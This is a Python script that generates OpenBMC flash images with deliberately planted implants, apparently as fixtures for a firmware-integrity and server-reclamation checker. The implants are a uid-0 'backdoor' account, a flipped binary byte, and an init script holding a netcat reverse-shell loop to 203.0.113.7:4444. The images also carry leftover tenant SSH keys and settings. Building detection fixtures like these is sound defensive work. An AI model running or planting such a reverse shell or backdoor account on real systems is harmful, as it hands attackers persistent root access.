#!/usr/bin/env python3
"""make_bmc_implants.py - OpenBMC-style flash images with implants and with
the state a previous tenant leaves behind, for the structural-diff and
reclamation tests (issue 5), into OUTDIR.

Every image is a 64 MiB static-layout image made by make_openbmc_image.build
(U-Boot, environment, FIT, rofs squashfs, rwfs jffs2) from trees written
here with make_seeded_bmc's building blocks.  Neither module is changed: the
trees are written by this script, then handed to build().

The factory tree is make_seeded_bmc's "clean" tree (base_tree) with three
differences that make it a reproducible factory release:
  * root's sha512crypt hash uses a fixed password and salt (make_seeded_bmc
    draws a random password for every build);
  * /usr/sbin/obmc-daemon, a real ARM ELF (Debian u-boot-qemu's
    qemu_arm/uboot.elf, a stand-in for a BMC daemon);
  * /etc/systemd/network/00-bmc-eth0.network (DHCP, as OpenBMC ships it);
and every file's mtime is set to 2023-11-14 (1700000000).  The initramfs
is archived with GNU cpio's --reproducible (no inode or device numbers):
this script replaces make_openbmc_image.make_initramfs in its own process
only (the module's file and its other users are unchanged).  Two builds
of one tree are then byte-identical.

Images:
  clean.img            the factory image
  clean_rebuilt.img    the same sources built again
  binary_modified.img  one byte of /usr/sbin/obmc-daemon's .text flipped
  user_added.img       a "backdoor" account (uid 0) added to the rofs
                       /etc/passwd and /etc/shadow
  init_added.img       an extra /etc/init.d/S99implant boot script
  tenant_clean.img     the factory image as a server returns after a
                       proper reset: rwfs holds only /cow/.keep
  tenant_dirty.img     the rwfs overlay (OpenBMC keeps changes to the
                       read-only root under /cow of the rwfs jffs2) holds
                       what a tenant leaves: root's password hash changed
                       and an extra account "tenant" in /cow/etc/shadow and
                       /cow/etc/passwd, /cow/home/root/.ssh/authorized_keys,
                       a non-empty /cow/var/log/messages, a static address
                       in /cow/etc/systemd/network/00-bmc-eth0.network and
                       PermitRootLogin/PasswordAuthentication yes in
                       /cow/etc/ssh/sshd_config
  implants.json        for each image: its original (clean.img), what was
                       planted, the diff changes expected ({change, class,
                       type, name, fs_path, path_substring}) or, for the
                       tenant images, the reclaim verdict and reason codes.

Usage: make_bmc_implants.py OUTDIR
"""
import argparse
import gzip
import hashlib
import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import make_openbmc_image  # noqa: E402
import make_seeded_bmc  # noqa: E402

EPOCH = 1700000000
FACTORY_PASSWORD = 'fwguard-factory-Root-2024'
FACTORY_SALT = 'FwgFactory2024'
ELF_PATH = '/usr/sbin/obmc-daemon'
ROFS = 'openbmc_flash[0]/partition[rofs]/squashfs[0]'

NETWORK_FACTORY = '''[Match]
Name=eth0

[Network]
DHCP=true
LinkLocalAddressing=yes
'''

NETWORK_TENANT = '''[Match]
Name=eth0

[Network]
DHCP=false
Address=10.66.6.6/24
Gateway=10.66.6.1
DNS=10.66.6.53
'''

SSHD_TENANT = '''# sshd_config changed by the tenant
PermitRootLogin yes
PasswordAuthentication yes
PermitEmptyPasswords no
'''

IMPLANT_INIT = '''#!/bin/sh
# S99implant: starts a reverse shell at boot
case "$1" in
start) (while true; do /bin/sh -i 2>&1 | nc 203.0.113.7 4444; sleep 60; done) & ;;
esac
'''

LOG_LINES = '''Jan 15 10:00:01 bmc syslogd started: BusyBox v1.36.1
Jan 15 10:02:13 bmc sshd[812]: Accepted password for root from 198.51.100.23 port 51234 ssh2
Jan 15 10:02:40 bmc ipmid[301]: user tenant added
Jan 15 11:17:09 bmc sshd[977]: Accepted publickey for root from 198.51.100.23 port 51301 ssh2
'''


def crypt(password, salt):
    r = subprocess.run(['openssl', 'passwd', '-6', '-salt', salt, '-stdin'],
                       input=password + '\n', check=True, stdout=subprocess.PIPE, text=True)
    return r.stdout.strip()


def read(root, rel):
    with open(os.path.join(root, rel.lstrip('/')), 'rb') as f:
        return f.read()


def elf_text_offset(elf):
    """File offset of the middle of an ELF32/64's .text section."""
    if elf[:4] != b'\x7fELF':
        raise ValueError('not an ELF')
    is64 = elf[4] == 2
    end = '<' if elf[5] == 1 else '>'
    if is64:
        shoff, = struct.unpack_from(end + 'Q', elf, 0x28)
        shentsize, shnum, shstrndx = struct.unpack_from(end + 'HHH', elf, 0x3a)
    else:
        shoff, = struct.unpack_from(end + 'I', elf, 0x20)
        shentsize, shnum, shstrndx = struct.unpack_from(end + 'HHH', elf, 0x2e)

    def sh(i):
        o = shoff + i * shentsize
        if is64:
            name, _, _, _, off, size = struct.unpack_from(end + 'IIQQQQ', elf, o)
        else:
            name, _, _, _, off, size = struct.unpack_from(end + 'IIIIII', elf, o)
        return name, off, size

    _, stroff, _ = sh(shstrndx)
    for i in range(shnum):
        name, off, size = sh(i)
        nend = elf.index(b'\0', stroff + name)
        if elf[stroff + name:nend] == b'.text' and size:
            return off + size // 2
    raise ValueError('no .text section')


def make_initramfs_reproducible(work, src):
    """make_openbmc_image.make_initramfs with cpio --reproducible."""
    names = []
    for dirpath, dirnames, filenames in os.walk(src):
        dirnames.sort()
        rel = os.path.relpath(dirpath, src)
        if rel != '.':
            names.append(rel)
        for fn in sorted(filenames):
            names.append(os.path.normpath(os.path.join(rel, fn)))
    r = subprocess.run(['cpio', '-o', '-H', 'newc', '--quiet', '--reproducible'], cwd=src,
                       input=('\n'.join(names) + '\n').encode(), stdout=subprocess.PIPE,
                       check=True)
    with open(os.path.join(work, 'initramfs.cpio.gz'), 'wb') as f:
        f.write(gzip.compress(r.stdout, mtime=0))


make_openbmc_image.make_initramfs = make_initramfs_reproducible


def factory_tree(src):
    """The factory rofs, rwfs and initramfs trees under src."""
    rofs = os.path.join(src, 'rofs')
    make_seeded_bmc.base_tree(rofs, False)
    root_hash = crypt(FACTORY_PASSWORD, FACTORY_SALT)
    make_seeded_bmc.write(rofs, '/etc/shadow', f'root:{root_hash}:19000:0:99999:7:::\n'
                          'daemon:*:19000:0:99999:7:::\nsshd:!:19000::::::\n', 0o600)
    elf = os.path.join(rofs, ELF_PATH.lstrip('/'))
    os.makedirs(os.path.dirname(elf), exist_ok=True)
    shutil.copyfile(make_openbmc_image.UBOOT_ELF, elf)
    os.chmod(elf, 0o755)
    make_seeded_bmc.write(rofs, '/etc/systemd/network/00-bmc-eth0.network', NETWORK_FACTORY)
    make_seeded_bmc.write(os.path.join(src, 'rwfs'), '/cow/.keep', '')
    make_seeded_bmc.write(os.path.join(src, 'initramfs'), '/init',
                          '#!/bin/sh\nexec /sbin/init\n', 0o755)
    return root_hash


def fix_times(tree):
    for dirpath, dirnames, filenames in os.walk(tree, topdown=False):
        for n in filenames + dirnames:
            os.utime(os.path.join(dirpath, n), (EPOCH, EPOCH), follow_symlinks=False)
    os.utime(tree, (EPOCH, EPOCH))


def build_image(outdir, name, mutate=None):
    """Builds the factory trees, applies mutate(src) and makes OUTDIR/name."""
    with tempfile.TemporaryDirectory(dir=outdir) as vdir:
        src = os.path.join(vdir, 'src')
        factory_tree(src)
        details = mutate(src) if mutate else {}
        fix_times(src)
        meta = make_openbmc_image.build(vdir, 'static')
        out = os.path.join(outdir, name)
        os.replace(meta['image'], out)
    return out, details or {}


# ---- mutations ------------------------------------------------------------

def modify_binary(src):
    path = os.path.join(src, 'rofs', ELF_PATH.lstrip('/'))
    data = bytearray(read(src, 'rofs' + ELF_PATH))
    at = elf_text_offset(bytes(data))
    old = data[at]
    data[at] ^= 0xff
    with open(path, 'wb') as f:
        f.write(data)
    return {'fs_path': ELF_PATH, 'offset': at, 'old_byte': old, 'new_byte': old ^ 0xff}


def add_user(src):
    rofs = os.path.join(src, 'rofs')
    passwd = read(rofs, '/etc/passwd').decode() + 'backdoor:x:0:0::/home/root:/bin/sh\n'
    shadow = read(rofs, '/etc/shadow').decode() + \
        f'backdoor:{crypt("letmein", "FwgBackdoor")}:19000:0:99999:7:::\n'
    make_seeded_bmc.write(rofs, '/etc/passwd', passwd)
    make_seeded_bmc.write(rofs, '/etc/shadow', shadow, 0o600)
    return {'user': 'backdoor', 'uid': 0}


def add_init(src):
    make_seeded_bmc.write(os.path.join(src, 'rofs'), '/etc/init.d/S99implant', IMPLANT_INIT,
                          0o755)
    return {'fs_path': '/etc/init.d/S99implant'}


def dirty_tenant(src):
    rofs = os.path.join(src, 'rofs')
    cow = os.path.join(src, 'rwfs', 'cow')
    passwd = read(rofs, '/etc/passwd').decode() + \
        'tenant:x:1000:1000:tenant:/home/tenant:/bin/sh\n'
    new_root = crypt('tenant-changed-it', 'FwgTenant')
    shadow = f'root:{new_root}:19500:0:99999:7:::\n' \
        'daemon:*:19000:0:99999:7:::\nsshd:!:19000::::::\n' \
        f'tenant:{crypt("tenant-pass", "FwgTenantUser")}:19500:0:99999:7:::\n'
    make_seeded_bmc.write(cow, '/etc/passwd', passwd)
    make_seeded_bmc.write(cow, '/etc/shadow', shadow, 0o600)
    with tempfile.TemporaryDirectory() as work:
        key = os.path.join(work, 'id_ed25519')
        subprocess.run(['ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-C', 'tenant@laptop',
                        '-f', key], check=True, stdout=subprocess.DEVNULL)
        pub = read(work, 'id_ed25519.pub')
    make_seeded_bmc.write(cow, '/home/root/.ssh/authorized_keys', pub, 0o600)
    os.chmod(os.path.join(cow, 'home/root/.ssh'), 0o700)
    make_seeded_bmc.write(cow, '/var/log/messages', LOG_LINES)
    make_seeded_bmc.write(cow, '/etc/systemd/network/00-bmc-eth0.network', NETWORK_TENANT)
    make_seeded_bmc.write(cow, '/etc/ssh/sshd_config', SSHD_TENANT)
    return {'root_hash': new_root, 'user': 'tenant', 'authorized_key': pub.decode().strip()}


# ---- main -----------------------------------------------------------------

def rofs_file(fs_path):
    parts = fs_path.strip('/').split('/')
    return ROFS + ''.join(f'/dir[{p}]' for p in parts[:-1]) + f'/file[{parts[-1]}]'


def main():
    ap = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    ap.add_argument('outdir')
    args = ap.parse_args()
    outdir = os.path.abspath(args.outdir)
    os.makedirs(outdir, exist_ok=True)
    doc = {'format': 'fwguard-implants', 'generator': os.path.basename(__file__),
           'inputs': {make_openbmc_image.UBOOT_BIN: None, make_openbmc_image.UBOOT_ELF: None},
           'provenance': make_openbmc_image.provenance(), 'images': {}}
    for p in doc['inputs']:
        with open(p, 'rb') as f:
            doc['inputs'][p] = hashlib.sha256(f.read()).hexdigest()

    def emit(name, mutate, planted, **extra):
        path, details = build_image(outdir, name, mutate)
        with open(path, 'rb') as f:
            digest = hashlib.sha256(f.read()).hexdigest()
        entry = {'original': None if name == 'clean.img' else 'clean.img', 'sha256': digest,
                 'planted': planted, 'details': details}
        entry.update(extra)
        doc['images'][name] = entry
        print(path)

    emit('clean.img', None, 'nothing: the factory image', expect=[])
    emit('clean_rebuilt.img', None, 'nothing: the factory image built again', expect=[],
         max_class='info')
    emit('binary_modified.img', modify_binary,
         f'one .text byte of the ARM ELF {ELF_PATH} flipped',
         expect=[{'change': 'modified', 'class': 'critical', 'type': 'file',
                  'name': os.path.basename(ELF_PATH), 'fs_path': ELF_PATH,
                  'path_substring': rofs_file(ELF_PATH)}])
    emit('user_added.img', add_user,
         'account "backdoor" (uid 0) added to the rofs /etc/passwd and /etc/shadow',
         expect=[{'change': 'added', 'class': 'critical', 'type': 'account',
                  'name': 'backdoor'}])
    emit('init_added.img', add_init, 'boot script /etc/init.d/S99implant added',
         expect=[{'change': 'added', 'class': 'critical', 'type': 'file', 'name': 'S99implant',
                  'fs_path': '/etc/init.d/S99implant',
                  'path_substring': rofs_file('/etc/init.d/S99implant')}])
    emit('tenant_clean.img', None, 'nothing: a server reset to the factory image',
         verdict='CLEAN', reasons=[])
    emit('tenant_dirty.img', dirty_tenant,
         'tenant state in the rwfs overlay /cow: root password hash, account "tenant", '
         'authorized_keys, /var/log/messages, static network address, sshd_config',
         verdict='TAINTED',
         reasons=[{'code': 'bmc.password_changed', 'fs_path': '/etc/shadow'},
                  {'code': 'bmc.account_added', 'fs_path': '/etc/passwd'},
                  {'code': 'bmc.ssh_key_added', 'fs_path': '/home/root/.ssh/authorized_keys'},
                  {'code': 'bmc.logs_present', 'fs_path': '/var/log/messages'},
                  {'code': 'bmc.network_config_changed',
                   'fs_path': '/etc/systemd/network/00-bmc-eth0.network'},
                  {'code': 'bmc.service_config_changed', 'fs_path': '/etc/ssh/sshd_config'}])
    with open(os.path.join(outdir, 'implants.json'), 'w') as f:
        json.dump(doc, f, indent=1)


if __name__ == '__main__':
    main()
